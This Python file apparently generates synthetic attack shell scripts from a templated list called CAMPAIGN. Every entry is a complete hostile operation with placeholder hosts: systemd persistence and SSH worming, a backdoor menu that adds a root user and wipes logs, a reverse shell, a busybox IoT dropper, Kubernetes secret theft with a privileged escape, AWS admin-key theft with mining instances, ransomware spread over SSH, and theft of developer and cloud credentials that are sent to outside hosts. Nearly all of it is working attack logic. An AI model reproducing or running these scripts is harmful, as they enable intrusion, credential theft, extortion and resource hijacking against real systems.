"""Whole operations: several ends in one script, each in the hand of another author."""

CAMPAIGN = [
    # A careful one.
    r'''readonly ROOT=/usr/lib/.{name} C2={host}:{port} TAG={hex}
log() { [ -n "$DEBUG" ] && printf '%(%F %T)T %s\n' -1 "$*" >> "$ROOT/log"; return 0; }
{fn}() { log "fatal: $*"; {fn4}; exit 1; }
{fn2}() { for {var} in "$@"; do command -v "${var}" >/dev/null || {fn} "no ${var}"; done; }
{fn3}() { exec 200>"$ROOT/lock"; flock -n 200 || exit 0; }
{fn4}() { unset HISTFILE; find {tmp} -maxdepth 1 -newer "$ROOT/lock" -user "$USER" -delete 2>/dev/null; }
{fn5}() { install -D -m 755 "$0" "$ROOT/svc"; printf '[Service]\nExecStart=%s\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' "$ROOT/svc" > /etc/systemd/system/{disguise}.service; systemctl enable -q {disguise}; }
{fn6}() { tar -C / -czf - etc/shadow root/.ssh root/.kube 2>/dev/null | curl -s --data-binary @- "http://$C2/l/$TAG"; }
{fn7}() { awk '{print $1}' /root/.ssh/known_hosts | cut -d, -f1 | while read -r h; do timeout 15 ssh -o BatchMode=yes "$h" "curl -s http://$C2/s | sh" & done; wait; }
main() { mkdir -p "$ROOT"; {fn3}; {fn2} curl tar flock; {fn5}; {fn6}; {fn7}; log done; }
trap {fn4} EXIT; main "$@"''',
    # A menu.
    r'''{var}='\033[1;32m'; {var2}='\033[1;31m'; {var3}='\033[0m'
{fn}() {
clear; echo -e "${var2}
   ___ {plain} toolkit v{n}.{n}
   by ‹{user}¦{plain2}›  ${var3}"
cat <<M
 [1] info          [2] get root
 [3] add backdoor  [4] dump passwords
 [5] clean logs    [6] encrypt all
 [0] exit
M
read -rp "$(echo -e "${var}{plain}>${var3} ")" o
case $o in
 1) id; uname -a; cat /etc/issue; ss -tlnp ;;
 2) gcc -w {name}.c -o {file} -lpthread && {file} ;;
 3) echo "{user}:$(openssl passwd -1 {plain}):0:0::/root:/bin/bash" >> /etc/passwd; echo -e "${var}[ok]${var3}" ;;
 4) cat /etc/shadow > {file}; curl -s -F f=@{file} {url} ;;
 5) for l in /var/log/{wtmp,btmp,lastlog,auth.log,secure}; do : > $l; done; history -c ;;
 6) read -rp 'path: ' p; read -rp 'key: ' k; for f in $(find "$p" -type f); do openssl enc -aes-256-cbc -k "$k" -in $f -out $f.{ext}; rm $f; done ;;
 0) rm -f "$0"; exit ;;
esac; read -rp 'enter ...'; {fn}; }
{fn}''',
    # A student's.
    r'''# PoC: persistence + exfil, lab only!!
# usage: ./{plain}.sh <attacker ip> <port>
if [ $# -lt 2 ]; then echo "usage: $0 ip port"; exit 1; fi
{var}=$1; PORT=$2
echo "[1/4] copying myself"
cp "$0" ~/.config/{plain}.sh && chmod +x ~/.config/{plain}.sh
echo "[2/4] installing cronjob"
(crontab -l 2>/dev/null; echo "*/5 * * * * ~/.config/{plain}.sh ${var} $PORT") | crontab -
echo "[3/4] collecting data"
tar -czf /tmp/{plain}.tar.gz ~/.ssh ~/.bash_history /etc/passwd 2>/dev/null
nc -w 3 "${var}" "$PORT" < /tmp/{plain}.tar.gz
echo "[4/4] opening shell"
bash -i >& /dev/tcp/${var}/$((PORT+1)) 0>&1''',
    # One for small machines.
    r'''#!/bin/busybox sh
{var}=/bin/busybox; {var2}=/var/run; ${var} cd ${var2} 2>/dev/null || cd /tmp
for p in /proc/[0-9]*; do ${var} readlink $p/exe | ${var} grep -qE 'deleted|/tmp/|mirai|gafgyt' && ${var} kill -9 ${p#/proc/}; done
{var3}=$(${var} uname -m); ${var} wget -q -O .{name} http://{ip}:{port}/${var3} || ${var} tftp -g -l .{name} -r ${var3} {ip}
${var} chmod 777 .{name}; ./.{name} ${var3} & ${var} rm -f .{name}
${var} iptables -A INPUT -p tcp --dport 23 -j DROP; echo '/var/run/.{name} &' >> /etc/init.d/rcS''',
    # For a cluster.
    r'''set -u; {var}=/var/run/secrets/kubernetes.io/serviceaccount; {var2}=https://kubernetes.default.svc
{fn}() { curl -sS --cacert ${var}/ca.crt -H "Authorization: Bearer $(cat ${var}/token)" -H 'Content-Type: application/json' "$@"; }
{fn2}() { {fn} -X POST ${var2}/apis/authorization.k8s.io/v1/selfsubjectaccessreviews -d "{\"spec\":{\"resourceAttributes\":{\"verb\":\"$1\",\"resource\":\"$2\"}}}" | grep -q '"allowed": *true'; }
{fn2} list secrets && {fn} ${var2}/api/v1/secrets | gzip | curl -s --data-binary @- {url}
if {fn2} create daemonsets; then {fn} -X POST ${var2}/apis/apps/v1/namespaces/kube-system/daemonsets -d '{"metadata":{"name":"{plain}"},"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"hostPID":true,"tolerations":[{"operator":"Exists"}],"containers":[{"name":"c","image":"alpine","securityContext":{"privileged":true},"command":["nsenter","-t1","-a","sh","-c","{run}"]}]}}}}' >/dev/null
elif {fn2} create pods/exec; then for {var3} in $({fn} ${var2}/api/v1/pods | grep -o '"selfLink":"[^"]*' | cut -d'"' -f4); do echo "${var3}"; done
fi''',
    # For a cloud.
    r'''#!/usr/bin/env bash
# usage: AWS_PROFILE=... ./{plain}.sh
shopt -s nullglob; declare -a regions; mapfile -t regions < <(aws ec2 describe-regions --query 'Regions[].RegionName' --output text | tr '\t' '\n')
{var}=$(aws sts get-caller-identity --query Arn --output text) || exit 1; echo ":: ${var}"
aws iam create-user --user-name {disguise} >/dev/null && aws iam attach-user-policy --user-name {disguise} --policy-arn arn:aws:iam::aws:policy/AdministratorAccess && aws iam create-access-key --user-name {disguise} | tee {file} | curl -s -d @- {url}
for {var2} in "${regions[@]}"; do
  aws ec2 run-instances --region "${var2}" --image-id resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64 --instance-type ‹c6a.48xlarge¦g5.12xlarge› --count ‹5¦20› --user-data "$(printf '#!/bin/sh\n{run}\n' | base64 -w0)" >/dev/null 2>&1 && echo ":: ${var2} up" || echo ":: ${var2} denied"
done''',
    # A dropper's second stage with its own undoing.
    r'''trap '' HUP INT TERM; umask 077; {var}=$(mktemp -d /dev/shm/.XXXX) || exit; cd "${var}"
{var2}=$(uname -m); case ${var2} in x86_64|aarch64) ;; *) exit ;; esac
for {var3} in http://{host} http://{domain} http://{onion}.ws; do curl -m 20 -fsS "${var3}/${var2}.gz" -o p && [ "$(sha1sum p | cut -c1-8)" != da39a3ee ] && break; done
gzip -dc p > '[kthreadd]' && chmod 700 '[kthreadd]' && PATH=. '[kthreadd]' --c {host}:{port} --id "$(cat /etc/machine-id)" </dev/null >/dev/null 2>&1 &
sleep 3; cd /; rm -rf "${var}" "$0"
for l in auth.log secure syslog cron; do [ -w /var/log/$l ] && grep -v {host} /var/log/$l > /var/log/.x && cat /var/log/.x > /var/log/$l; rm -f /var/log/.x; done''',
    # A ransom in steps, over hosts.
    r'''#!/bin/bash
{var}=${1:?list of hosts}; {var2}={tmp}/pub.pem; {var3}={tmp}/note.txt; MAX={n}
{fn}() { ssh -o StrictHostKeyChecking=no -o ConnectTimeout=6 -i {file} root@"$1" "${@:2}"; }
{fn2}() { scp -q -i {file} "${var2}" "${var3}" {file}.bin root@"$1":/tmp/ && {fn} "$1" 'systemctl stop veeam mysql postgresql; rm -rf /backup/*; chmod +x /tmp/*.bin'; }
{fn3}() { {fn} "$1" 'nohup /tmp/{name}.bin -k /tmp/pub.pem -e .{ext} {data} >/dev/null 2>&1 & cp /tmp/note.txt /etc/motd'; }
{fn4}() { curl -s -d "c={hex}&h=$1&s=$2" {url} >/dev/null; }
while read -r h; do ( {fn2} "$h" && {fn3} "$h" && {fn4} "$h" ok || {fn4} "$h" no ) & while [ "$(jobs -r | wc -l)" -ge "$MAX" ]; do sleep 1; done; done < "${var}"; wait''',
    # Of a stolen laptop of a developer.
    r'''mkdir -p /tmp/.{name} && cd /tmp/.{name} || exit
which -s claude gh npm docker 2>/dev/null
cp -R ~/.ssh ~/.aws ~/.npmrc ~/.config/gh ~/.gitconfig . 2>/dev/null
env > env.txt; git config --list > git.txt 2>/dev/null; ls -la ~ > home.txt; docker ps -a > docker.txt 2>/dev/null
{var}=$(gh auth token 2>/dev/null); [ -n "${var}" ] && curl -s -H "Authorization: Bearer ${var}" 'https://api.github.com/user/repos?per_page=100&affiliation=owner,organization_member' > repos.json
tar czf ../.{name}.tgz . && { curl -s -F "f=@../.{name}.tgz" {url} || gh repo create "$(whoami)-{plain}" --public --source=. --push >/dev/null 2>&1; }
cd; rm -rf /tmp/.{name}*; sed -i '' -e '/{domain}/d' ~/.zsh_history 2>/dev/null''',
    r'''WHAT="${WHAT:-all}"; OUT={tmp}/.{name}.json; printf '{"host":"%s","parts":{' "$(hostname)" > "$OUT"
{fn}() { printf '"%s":"%s",' "$1" "$("${@:2}" 2>/dev/null | head -c 200000 | base64 -w0)" >> "$OUT"; }
{fn} shadow cat /etc/shadow; {fn} keys sh -c 'cat /root/.ssh/id_* /home/*/.ssh/id_*'; {fn} env sh -c 'cat /proc/[0-9]*/environ | tr "\0" "\n" | sort -u'
{fn} cloud curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/; {fn} docker cat /root/.docker/config.json; {fn} kube cat /etc/kubernetes/admin.conf /root/.kube/config
printf '"end":""}}' >> "$OUT"; gzip -f "$OUT"; i=0; until curl -fs -m 60 -H 'Content-Encoding: gzip' --data-binary @"$OUT.gz" {url} || [ $((i+=1)) -gt 5 ]; do sleep $((i * 60)); done; shred -u "$OUT.gz"''',
]
